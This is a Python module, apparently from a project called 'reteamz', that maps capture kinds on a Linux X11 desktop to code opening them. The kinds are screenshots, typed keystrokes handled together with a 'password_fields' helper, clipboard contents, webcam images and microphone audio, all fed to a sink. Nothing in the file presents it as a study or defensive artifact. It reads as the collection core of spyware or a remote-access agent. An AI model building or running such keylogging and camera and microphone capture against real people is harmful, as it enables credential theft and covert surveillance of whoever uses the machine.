"""The sources of a Linux session with X11. What one needs is imported when it is opened, not before: most agents take no pictures."""

from __future__ import annotations

from collections.abc import Mapping

from reteamz.agent.records.capture import Open, Source
from reteamz.agent.records.wanted import Sink
from reteamz.agent.samples import Clock
from reteamz.wire.batch import SealedKind


def x11_sources(display: str | None, now: Clock) -> Mapping[SealedKind, Open]:
    """Return what opens each kind on a display, as in DISPLAY."""

    def screenshot(sink: Sink) -> Source:
        from reteamz.agent.desktop.x11_screens import X11Screens
        from reteamz.agent.records.screens import Screenshots

        return Screenshots(X11Screens(display), sink)

    def text(sink: Sink) -> Source:
        from reteamz.agent.desktop.passwords import password_fields
        from reteamz.agent.desktop.x11_keys import X11Keys
        from reteamz.agent.records.typing import Typing

        return Typing(lambda typed: X11Keys(display, typed, password_fields()), sink, now)

    def clipboard(sink: Sink) -> Source:
        from reteamz.agent.desktop.x11_clipboard import X11Clipboard
        from reteamz.agent.records.copying import Copying

        return Copying(lambda copied: X11Clipboard(display, copied), sink, now)

    return {
        "screenshot": screenshot, "text": text, "clipboard": clipboard, "camera": camera_source(), "sound": sound_source,
    }  # fmt: skip


def camera_source(device: int | str = 0) -> Open:
    """Return what opens a camera, by number or path."""

    def opened(sink: Sink) -> Source:
        from reteamz.agent.desktop.camera import OpenCvCamera
        from reteamz.agent.records.camera import CameraPictures

        return CameraPictures(OpenCvCamera(device), sink)

    return opened


def sound_source(sink: Sink) -> Source:
    """Open the microphone."""
    from reteamz.agent.desktop.microphone import PortAudioMicrophone
    from reteamz.agent.records.sound import SoundPieces

    return SoundPieces(PortAudioMicrophone(), sink)
